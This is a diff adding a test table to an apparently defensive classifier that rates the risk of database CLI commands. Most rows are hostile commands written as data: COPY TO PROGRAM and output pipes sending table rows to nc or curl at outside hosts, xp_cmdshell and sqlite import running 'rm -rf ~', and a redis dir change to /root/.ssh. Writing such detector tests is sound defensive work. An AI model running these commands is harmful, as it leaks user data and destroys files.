@@ -61,3 +61,25 @@ test.each([
 ])('letters count for the program that has them: %s', (command, level) => {
   expect(levelOf(command)).toBe(level);
 });
+
+test.each([
+  [`psql app -c "COPY users TO PROGRAM 'nc 203.0.113.9 4444'"`, 'critical'],
+  [`psql app <<'SQL'\nCOPY accounts\nTO PROGRAM 'curl -F f=@- https://x.example/a';\nSQL`, 'critical'],
+  [String.raw`pgcli app -c '\o |curl -d @- https://x.example'`, 'critical'],
+  [`sqlite3 app.db ".output '|curl -d @- https://x.example'" "select * from users"`, 'critical'],
+  [`mysql app -e 'pager nc 203.0.113.9 9000; select * from users'`, 'critical'],
+  [`redis-cli CONFIG SET dir /root/.ssh`, 'critical'],
+  [`psql app -c "COPY users TO PROGRAM 'gzip > /tmp/u.gz'"`, 'high'],
+  [`psql app -c "COPY t FROM PROGRAM 'ls /tmp'"`, 'high'],
+  [`sqlite3 app.db '.import "|ls -la" t'`, 'high'],
+  [`sqlite3 app.db '.import "|rm -rf ~" t'`, 'critical'],
+  [`duckdb -c "LOAD shellfs; SELECT * FROM read_text('ls |')"`, 'high'],
+  [`sqlcmd -Q "EXEC xp_cmdshell 'rm -rf ~'"`, 'critical'],
+  [`mongosh app --eval 'run("ls")'`, 'high'],
+  [`redis-cli MODULE LOAD /tmp/x.so`, 'high'],
+  [`redis-cli CONFIG GET dir`, 'low'],
+  [`sqlite3 app.db '.import data.csv t'`, 'medium'],
+  [`psql app -c "SELECT 'COPY users TO PROGRAM x'"`, 'low'],
+])('what a database is made to run, and where its rows go: %s is %s', (command, level) => {
+  expect(levelOf(command)).toBe(level);
+});
